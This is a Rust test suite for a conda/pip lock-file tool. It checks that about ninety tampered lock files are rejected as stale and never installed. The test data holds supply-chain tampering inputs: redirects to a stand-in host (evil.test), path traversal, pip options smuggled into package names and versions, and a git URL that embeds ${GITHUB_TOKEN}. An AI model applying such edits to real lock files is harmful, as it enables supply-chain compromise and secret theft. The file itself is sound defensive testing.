//! A lock in a pull request is hostile: a table of edits of a real lock, with conda and pip packages. Each is
//! made to the text alone, and once more with larder's seal computed again over what came of it. None may be
//! called fresh, and none may be installed where its manifest is beside it.

use std::fs;

use larder_lock::LockFile;
use larder_testkit::Run;

use crate::{
    pip::{World, world},
    support::{env, json},
};

/// What finds an edit.
#[derive(Clone, Copy, PartialEq, Eq)]
enum FoundBy {
    /// The check of the lock's contents, whoever seals it.
    Contents,
    /// The seal, and `--online` if the seal was computed again: the edit is one that a channel could have
    /// made, so nothing on this machine tells.
    Index,
    /// `lock --check`, whoever seals it; `create` need not mind, as the same packages are installed.
    Check,
    /// The seal alone: it changes nothing that is installed.
    Seal,
}
use FoundBy::{Check, Contents, Index, Seal};

struct Edit {
    name: &'static str,
    found_by: FoundBy,
    make: fn(&str) -> String,
}

/// The lines of one item of `package`.
fn item<'t>(text: &'t str, name: &str) -> &'t str {
    let start = text.find(&format!("- name: {name}\n")).unwrap();
    let rest = &text[start + 2..];
    let end = rest.find("\n- name: ").map_or(rest.len(), |end| end + 1);
    &text[start..start + 2 + end]
}

fn edit_item(text: &str, name: &str, edit: impl Fn(&str) -> String) -> String {
    let item = item(text, name);
    let edited = edit(item);
    assert_ne!(item, edited, "{name}: nothing was edited\n{item}");
    text.replacen(item, &edited, 1)
}

fn replace(text: &str, old: &str, new: &str) -> String {
    assert!(text.contains(old), "{old}: {text}");
    text.replace(old, new)
}

fn in_item(text: &str, name: &str, old: &str, new: &str) -> String {
    edit_item(text, name, |item| replace(item, old, new))
}

fn without_item(text: &str, name: &str) -> String {
    edit_item(text, name, |_| String::new())
}

/// An item made from another one.
fn with_item(text: &str, from: &str, name: &str) -> String {
    let new = item(text, from).replace(&format!("name: {from}"), &format!("name: {name}"));
    let new = new.replace(&format!("/{from}-"), &format!("/{name}-"));
    format!("{}\n{new}", text.trim_end())
}

fn metadata_line<'t>(text: &'t str, key: &str) -> &'t str {
    let start = format!("    {key}: ");
    text.lines().find(|line| line.starts_with(&start)).unwrap()
}

fn without_metadata(text: &str, is_gone: impl Fn(&str) -> bool) -> String {
    let kept = text.lines().filter(|line| !is_gone(line));
    kept.map(|line| format!("{line}\n")).collect()
}

/// Adds a key to the JSON of a key of `custom_metadata`.
fn in_metadata(text: &str, key: &str, json_key: &str, value: &str) -> String {
    let line = metadata_line(text, key);
    let edited = line.replacen('{', &format!("{{\"{json_key}\":{value},"), 1);
    replace(text, line, &edited)
}

fn in_metadata_text(text: &str, key: &str, old: &str, new: &str) -> String {
    let line = metadata_line(text, key);
    replace(text, line, &replace(line, old, new))
}

fn digest_of(text: &str, name: &str) -> String {
    let line = item(text, name)
        .lines()
        .find(|line| line.contains("sha256:"))
        .unwrap();
    line.split('\'')
        .next_back()
        .unwrap()
        .trim()
        .trim_start_matches("sha256: ")
        .to_owned()
}

fn other_digest(text: &str, name: &str) -> String {
    let digest = digest_of(text, name);
    in_item(text, name, &digest, &"0123456789abcdef".repeat(4))
}

const SUBDIR: &str = if cfg!(target_arch = "x86_64") {
    "linux-64"
} else {
    "linux-aarch64"
};

fn key(name: &str) -> String {
    format!("larder:{SUBDIR}/{name}")
}

fn pip_key() -> String {
    format!("larder-pip:{SUBDIR}")
}

fn edit(name: &'static str, found_by: FoundBy, make: fn(&str) -> String) -> Edit {
    Edit {
        name,
        found_by,
        make,
    }
}

#[expect(clippy::too_many_lines, reason = "a table, one row an edit")]
fn conda_edits() -> Vec<Edit> {
    vec![
        edit("a package at another host", Contents, |text| {
            edit_item(text, "six", |item| {
                item.replace("url: file:///", "url: https://evil.test/")
            })
        }),
        edit(
            "a package in a channel with a longer name",
            Contents,
            |text| in_item(text, "six", "/channel/", "/channel-evil/"),
        ),
        edit(
            "a package in a channel below the channel",
            Contents,
            |text| in_item(text, "six", "/channel/", "/channel/evil/"),
        ),
        edit("a package behind ..", Contents, |text| {
            in_item(text, "six", "/channel/", "/channel/../evil/")
        }),
        edit("a package behind encoded slashes", Contents, |text| {
            in_item(text, "six", "/channel/", "/channel/..%2fevil/")
        }),
        edit("a package by http", Contents, |text| {
            edit_item(text, "six", |item| {
                item.replace("url: file:///", "url: http://127.0.0.1/")
            })
        }),
        edit("a package with a query", Contents, |text| {
            in_item(text, "six", ".conda", ".conda?token=x")
        }),
        edit("a package of another platform", Contents, |text| {
            edit_item(text, "six", |item| {
                item.replace(&format!("/{SUBDIR}/six"), "/win-64/six")
            })
        }),
        edit(
            "a package in the other directory of its channel",
            Index,
            |text| {
                edit_item(text, "six", |item| {
                    item.replace(&format!("/{SUBDIR}/six"), "/noarch/six")
                })
            },
        ),
        edit("a package without a directory", Contents, |text| {
            edit_item(text, "six", |item| {
                item.replace(&format!("/{SUBDIR}/six"), "/six")
            })
        }),
        edit("another sha256", Contents, |text| other_digest(text, "six")),
        edit("another sha256 with its metadata", Index, |text| {
            let begun = digest_of(text, "six")[..8].to_owned();
            let text = other_digest(text, "six");
            in_metadata_text(&text, &key("six"), &begun, "01234567")
        }),
        edit("another md5", Index, |text| {
            edit_item(text, "six", |item| {
                let line = item.lines().find(|line| line.contains("md5:")).unwrap();
                item.replace(line, &format!("    md5: {}", "0123456789abcdef".repeat(2)))
            })
        }),
        edit("no sha256", Contents, |text| {
            edit_item(text, "six", |item| {
                without_metadata(item, |line| line.contains("sha256:"))
            })
        }),
        edit("no digest at all", Contents, |text| {
            edit_item(text, "six", |item| {
                without_metadata(item, |line| {
                    line.contains("sha256:") || line.contains("md5:") || line.contains("hash:")
                })
            })
        }),
        edit("a package that nothing needs", Contents, |text| {
            with_item(text, "six", "evil")
        }),
        edit(
            "a package that another one is made to need",
            Contents,
            |text| {
                let text = with_item(text, "six", "evil");
                edit_item(&text, "pip", |item| {
                    item.replace("dependencies:\n", "dependencies:\n    evil: ''\n")
                })
            },
        ),
        edit(
            "a package that another one is made to need, with metadata",
            Index,
            |text| {
                let text = with_item(text, "six", "evil");
                let line = metadata_line(&text, &key("six")).to_owned();
                let more = line.replace(&key("six"), &key("evil"));
                let text = replace(&text, &line, &format!("{more}\n{line}"));
                edit_item(&text, "pip", |item| {
                    item.replace("dependencies:\n", "dependencies:\n    evil: ''\n")
                })
            },
        ),
        edit(
            "a package less that the manifest asks for",
            Contents,
            |text| without_item(text, "six"),
        ),
        edit("a package less that another one needs", Contents, |text| {
            without_item(text, "python")
        }),
        edit(
            "another version than the manifest asks for",
            Contents,
            |text| edit_item(text, "six", |item| item.replace("1.16.0", "1.15.0")),
        ),
        edit("a version that is not the url's", Contents, |text| {
            edit_item(text, "six", |item| item.replacen("1.16.0", "1.16.1", 1))
        }),
        edit("a build that is not the url's", Contents, |text| {
            edit_item(text, "six", |item| item.replace("build: '0'", "build: '1'"))
        }),
        edit("a name that is not the url's", Contents, |text| {
            edit_item(text, "six", |item| item.replace("name: six", "name: seven"))
        }),
        edit("a package twice", Contents, |text| {
            let again = item(text, "six").to_owned();
            format!("{}\n{again}", text.trim_end())
        }),
        edit("no metadata for one package", Contents, |text| {
            let key = key("six");
            without_metadata(text, |line| line.trim_start().starts_with(&key))
        }),
        edit("metadata of no package", Contents, |text| {
            without_metadata(text, |line| line.trim_start().starts_with("larder:"))
        }),
        edit("none of larder's keys", Contents, |text| {
            without_metadata(text, |line| {
                line.trim_start().starts_with("larder") || line.trim() == "custom_metadata:"
            })
        }),
        edit("metadata that says another channel", Contents, |text| {
            in_metadata(
                text,
                &key("six"),
                "channel",
                "\"https://conda.anaconda.org/conda-forge\"",
            )
        }),
        edit("metadata that says another subdir", Contents, |text| {
            in_metadata(text, &key("six"), "subdir", "\"win-64\"")
        }),
        edit("metadata that says another file", Contents, |text| {
            in_metadata(text, &key("six"), "fn", "\"evil-1-0.conda\"")
        }),
        edit("metadata that says another name", Contents, |text| {
            in_metadata(text, &key("six"), "name", "\"evil\"")
        }),
        edit("metadata that says another url", Contents, |text| {
            in_metadata(
                text,
                &key("six"),
                "url",
                "\"https://evil.test/linux-64/six-1.16.0-0.conda\"",
            )
        }),
        edit("metadata that says other dependencies", Contents, |text| {
            in_metadata(text, &key("six"), "depends", "[\"evil\"]")
        }),
        edit("metadata that says constrains", Index, |text| {
            in_metadata(text, &key("six"), "constrains", "[\"evil >1\"]")
        }),
        edit("constrains that do not hold", Contents, |text| {
            in_metadata(text, &key("six"), "constrains", "[\"python <3\"]")
        }),
        edit("metadata that knows nothing", Contents, |text| {
            in_metadata(text, &key("six"), "bare", "true")
        }),
        edit("metadata that knows a part", Contents, |text| {
            in_metadata(text, &key("six"), "partial", "true")
        }),
        edit("one channel more", Contents, |text| {
            text.replacen(
                "  channels:\n",
                "  channels:\n  - url: https://evil.test/channel\n    used_env_vars: []\n",
                1,
            )
        }),
        edit("another channel", Contents, |text| {
            let line = text
                .lines()
                .find(|line| line.starts_with("  - url: "))
                .unwrap();
            replace(text, line, "  - url: https://evil.test/channel")
        }),
        edit("another channel, everywhere", Contents, |text| {
            replace(text, "file:///", "https://evil.test/")
        }),
        edit("another platform", Index, |text| {
            replace(text, SUBDIR, "osx-64")
        }),
        edit("one platform more", Contents, |text| {
            replace(text, "  platforms:\n", "  platforms:\n  - osx-64\n")
        }),
        edit("another source", Check, |text| {
            replace(text, "  - environment.yml", "  - evil.yml")
        }),
        edit("one source more", Check, |text| {
            replace(
                text,
                "  - environment.yml",
                "  - environment.yml\n  - evil.yml",
            )
        }),
        edit("another category", Check, |text| {
            in_item(text, "six", "category: main", "category: dev")
        }),
        edit("an optional package", Seal, |text| {
            in_item(text, "six", "optional: false", "optional: true")
        }),
        edit("a seal of another version", Seal, |text| {
            in_metadata_text(text, "larder:lock", "\"version\":2", "\"version\":99")
        }),
        edit("a list of URLs", Contents, |text| {
            let urls = text
                .lines()
                .filter_map(|line| line.trim().strip_prefix("url: "));
            let urls = urls.filter(|url| url.ends_with(".conda"));
            let urls: String = urls.map(|url| format!("{url}\n")).collect();
            format!("# platform: {SUBDIR}\n@EXPLICIT\n{urls}")
        }),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table, one row an edit")]
fn pip_edits() -> Vec<Edit> {
    vec![
        edit("a wheel at another host", Contents, |text| {
            edit_item(text, "dull", |item| {
                item.replace("//127.0.0.1:", "//127.0.0.2:")
            })
        }),
        edit("a wheel at another port", Contents, |text| {
            edit_item(text, "dull", |item| {
                item.replace("//127.0.0.1:", "//127.0.0.1:1")
            })
        }),
        edit("a wheel by another scheme", Contents, |text| {
            edit_item(text, "dull", |item| {
                item.replace("http://127", "https://127")
            })
        }),
        edit("a wheel of this machine", Contents, |text| {
            edit_item(text, "dull", |item| {
                item.replace("http://127", "file:///tmp/127")
            })
        }),
        edit("a wheel with a user", Contents, |text| {
            edit_item(text, "dull", |item| {
                item.replace("//127.0.0.1", "//user:pass@127.0.0.1")
            })
        }),
        edit("a wheel whose host is a user", Contents, |text| {
            edit_item(text, "dull", |item| {
                item.replace("//127.0.0.1", "//127.0.0.1@evil.test")
            })
        }),
        edit("another digest of a wheel", Index, |text| {
            other_digest(text, "dull")
        }),
        edit("an md5 in place of a wheel's sha256", Contents, |text| {
            let digest = digest_of(text, "dull");
            in_item(
                text,
                "dull",
                &format!("sha256: {digest}"),
                &format!("md5: {}", &digest[..32]),
            )
        }),
        edit("a wheel without digest", Contents, |text| {
            edit_item(text, "dull", |item| {
                without_metadata(item, |line| {
                    line.contains("sha256:") || line.contains("hash:")
                })
            })
        }),
        edit("a wheel that nothing needs", Contents, |text| {
            with_item(text, "dull", "evil")
        }),
        edit("a wheel that another one is made to need", Index, |text| {
            let text = with_item(text, "dull", "evil");
            edit_item(&text, "pretty", |item| {
                item.replace("dependencies:\n", "dependencies:\n    evil: ''\n")
            })
        }),
        edit(
            "a wheel less that the manifest asks for",
            Contents,
            |text| without_item(text, "pretty"),
        ),
        edit("a wheel less that another one needs", Contents, |text| {
            without_item(text, "dull")
        }),
        edit("no wheels at all", Contents, |text| {
            without_item(&without_item(text, "dull"), "pretty")
        }),
        edit("a wheel too old for another one", Contents, |text| {
            edit_item(text, "dull", |item| item.replace("1.5", "0.5"))
        }),
        edit("a version that is not the wheel's", Contents, |text| {
            edit_item(text, "dull", |item| item.replacen("1.5", "1.6", 1))
        }),
        edit("a wheel of another distribution", Contents, |text| {
            in_item(text, "dull", "/dull-", "/evil-")
        }),
        edit("a wheel for another Python", Contents, |text| {
            in_item(text, "dull", "py3-none-any", "cp27-cp27m-manylinux1_x86_64")
        }),
        edit("a wheel for another platform", Contents, |text| {
            in_item(text, "dull", "py3-none-any", "py3-none-win_amd64")
        }),
        edit("a source in place of a wheel", Index, |text| {
            in_item(text, "dull", "-py3-none-any.whl", ".tar.gz")
        }),
        edit("a wheel's name with an option", Contents, |text| {
            in_item(
                text,
                "dull",
                "name: dull",
                "name: dull --index-url=https://evil.test",
            )
        }),
        edit("a wheel's version with a line", Contents, |text| {
            in_item(text, "dull", "version: '1.5'", "version: \"1.5\\n--pre\"")
        }),
        edit("a wheel that a conda package brings", Contents, |text| {
            // The conda package of this name is another item.
            let new = item(text, "dull")
                .replace("name: dull", "name: six")
                .replace("/dull-1.5", "/six-1.17.0")
                .replace("'1.5'", "1.17.0");
            format!("{}\n{new}", text.trim_end())
        }),
        edit("an option that is passed on", Contents, |text| {
            in_metadata(
                text,
                &pip_key(),
                "passed_on",
                "[\"--index-url https://evil.test/simple\"]",
            )
        }),
        edit("an option behind a requirement", Contents, |text| {
            in_metadata(
                text,
                &pip_key(),
                "passed_on",
                "[\"./x --config-settings=a=b\"]",
            )
        }),
        edit("a repository that is passed on", Contents, |text| {
            let line = "[\"evil @ git+https://evil.test/evil@0123\"]";
            in_metadata(text, &pip_key(), "passed_on", line)
        }),
        edit("an editable path that is passed on", Contents, |text| {
            in_metadata(text, &pip_key(), "passed_on", "[\"-e ./evil\"]")
        }),
        edit("a path that is passed on", Contents, |text| {
            in_metadata(text, &pip_key(), "passed_on", "[\"./evil\"]")
        }),
        edit("a name that is passed on", Contents, |text| {
            in_metadata(text, &pip_key(), "passed_on", "[\"evil==1.0\"]")
        }),
        edit(
            "a name that conda brings and that is passed on",
            Contents,
            |text| in_metadata(text, &pip_key(), "passed_on", "[\"six==1.17.0\"]"),
        ),
        edit(
            "a wheel that is passed on in place of its bytes",
            Contents,
            |text| {
                let text = without_item(text, "dull");
                in_metadata(&text, &pip_key(), "passed_on", "[\"dull==1.5\"]")
            },
        ),
        edit("a variable that is passed on", Contents, |text| {
            let line = "[\"evil @ git+https://${GITHUB_TOKEN}.evil.test/x@0\"]";
            in_metadata(text, &pip_key(), "passed_on", line)
        }),
        edit(
            "several lines that are passed on as one",
            Contents,
            |text| in_metadata(text, &pip_key(), "passed_on", r#"["./x\n--pre"]"#),
        ),
        edit("a section that cannot be read", Contents, |text| {
            in_metadata_text(text, &pip_key(), "\"requirements\"", "\"requirement\"")
        }),
        edit("no section", Contents, |text| {
            without_metadata(text, |line| line.trim_start().starts_with("larder-pip:"))
        }),
        edit("a requirement more", Contents, |text| {
            in_metadata_text(
                text,
                &pip_key(),
                "\"requirements\":[",
                "\"requirements\":[\"evil\",",
            )
        }),
        edit("an option less", Contents, |text| {
            in_metadata_text(text, &pip_key(), "\"--no-index\",", "")
        }),
        edit("an option more", Contents, |text| {
            let more = "\"requirements\":[\"--extra-index-url https://evil.test\",";
            in_metadata_text(text, &pip_key(), "\"requirements\":[", more)
        }),
        edit("another Python", Contents, |text| {
            in_metadata_text(text, &pip_key(), "\"python\":\"3.", "\"python\":\"2.")
        }),
        edit("a path for Python", Contents, |text| {
            in_metadata_text(text, &pip_key(), "\"python\":\"", "\"python\":\"../../")
        }),
        edit("another index of a wheel", Contents, |text| {
            in_metadata(
                text,
                &pip_key(),
                "indexes",
                "{\"dull\":\"https://evil.test/simple\"}",
            )
        }),
    ]
}

fn prepared() -> Option<(World, String)> {
    let world = world()?;
    world.manifest("  - pip\n  - six 1.16.*\n", &["pretty"]);
    world.larder(&["lock"]).success();
    world.larder(&["lock", "--check"]).success();
    let text = world.lock();
    Some((world, text))
}

/// The same lock, sealed again; what cannot be read stays as it is.
fn sealed(text: &str) -> String {
    LockFile::parse("conda-lock.yml", text).map_or_else(|_| text.to_owned(), |lock| lock.to_yaml())
}

fn assert_stale(world: &World, name: &str, text: &str) {
    world.sandbox.write("conda-lock.yml", text);
    let check = world.larder(&["lock", "--check"]);
    assert_eq!(check.status, 1, "{name}: {}{}", check.stdout, check.stderr);
}

fn assert_refused(world: &World, name: &str, text: &str) {
    assert_stale(world, name, text);
    let create = world.larder(&["create", "-p", "env", "--offline"]);
    assert_eq!(
        create.status, 1,
        "{name}: {}{}",
        create.stdout, create.stderr
    );
    assert!(!env(&world.sandbox).exists(), "{name}");
}

#[test]
fn no_edited_lock_is_called_fresh_or_installed() {
    let Some((world, text)) = prepared() else {
        return;
    };
    assert_eq!(sealed(&text), text);
    let edits: Vec<Edit> = conda_edits().into_iter().chain(pip_edits()).collect();
    assert!(edits.len() >= 80, "{}", edits.len());
    for edit in &edits {
        let edited = (edit.make)(&text);
        assert_ne!(edited, text, "{}", edit.name);
        assert_refused(&world, edit.name, &edited);
        match edit.found_by {
            Contents => assert_refused(&world, edit.name, &sealed(&edited)),
            Check => assert_stale(&world, edit.name, &sealed(&edited)),
            Index | Seal => {}
        }
    }
}

#[test]
fn an_edit_that_only_an_index_can_tell_is_found_online() {
    let Some((world, text)) = prepared() else {
        return;
    };
    let online = |world: &World| -> Run { world.larder(&["lock", "--check", "--online"]) };
    online(&world).success();
    let edits = conda_edits().into_iter().chain(pip_edits());
    for edit in edits.filter(|edit| edit.found_by == Index) {
        world
            .sandbox
            .write("conda-lock.yml", &sealed(&(edit.make)(&text)));
        let run = online(&world);
        assert_eq!(run.status, 1, "{}: {}{}", edit.name, run.stdout, run.stderr);
    }
    world.sandbox.write("conda-lock.yml", &text);
    let report = json(
        &world
            .larder(&["lock", "--check", "--online", "--json"])
            .success(),
    );
    assert_eq!(report["fresh"], true);
    world
        .larder(&["lock", "--check", "--online", "--offline"])
        .fails_with(2);
    let World {
        sandbox, server, ..
    } = world;
    server.shutdown();
    let arguments = ["lock", "--check", "--online"];
    Run::of(sandbox.command(&arguments).env("LARDER_UV", "")).fails_with(3);
    Run::of(sandbox.command(&["lock", "--check"]).env("LARDER_UV", "")).success();
}

#[test]
fn a_manifest_that_asks_for_more_makes_the_lock_stale() {
    let Some((world, _)) = prepared() else {
        return;
    };
    for lines in [
        &["pretty[fancy]"][..],
        &["pretty", "dull[x]"],
        &["pretty", "other ; python_version >= '3'"],
        &["pretty", "other ; sys_platform == 'linux'"],
        &["pretty<2"],
        &["pretty", "dull>=2"],
        &["pretty", "--pre"],
        &["pretty", "-e ."],
        &["pretty", "git+https://h.test/x"],
        &["pretty", "https://h.test/x-1-py3-none-any.whl"],
        &["dull"],
    ] {
        world.manifest("  - pip\n  - six 1.16.*\n", lines);
        let run = world.larder(&["lock", "--check"]);
        assert_eq!(run.status, 1, "{lines:?}: {}", run.stderr);
    }
    for lines in [
        &["Pretty >= 1"][..],
        &["pretty", "dull"],
        &["pretty", "other ; python_version < '3'"],
        &["pretty", "other ; sys_platform == 'win32'"],
    ] {
        world.manifest("  - pip\n  - six 1.16.*\n", lines);
        world.larder(&["lock", "--check"]).success();
    }
}

#[test]
fn a_section_of_several_lines_in_one_text_is_several_lines() {
    let Some((world, _)) = prepared() else {
        return;
    };
    world.manifest("  - pip\n  - six 1.16.*\n", &["pretty\nother"]);
    let run = world.larder(&["lock", "--check"]).fails_with(1);
    assert!(run.stderr.contains("`other`"), "{}", run.stderr);
    // `\L` is U+2028 in YAML, where pip ends a line.
    world.manifest("  - pip\n  - six 1.16.*\n", &["pretty"]);
    let manifest = fs::read_to_string(world.sandbox.path("environment.yml")).unwrap();
    let manifest = replace(&manifest, "\"pretty\"", "\"pretty\\L--pre\"");
    world.sandbox.write("environment.yml", &manifest);
    let run = world.larder(&["lock", "--check"]).fails_with(1);
    assert!(run.stderr.contains("line separator"), "{}", run.stderr);
}

#[test]
fn a_lock_alone_names_what_it_passes_on() {
    let Some((world, text)) = prepared() else {
        return;
    };
    fs::remove_file(world.sandbox.path("environment.yml")).unwrap();
    let edited = in_metadata(&text, &pip_key(), "passed_on", "[\"./absent\"]");
    world.sandbox.write("conda-lock.yml", &edited);
    let run = world.larder(&["create", "-p", "env", "-f", "conda-lock.yml"]);
    assert_ne!(run.status, 0);
    assert!(
        run.stderr.contains("no digest stands for") && run.stderr.contains("./absent"),
        "{}",
        run.stderr
    );
}
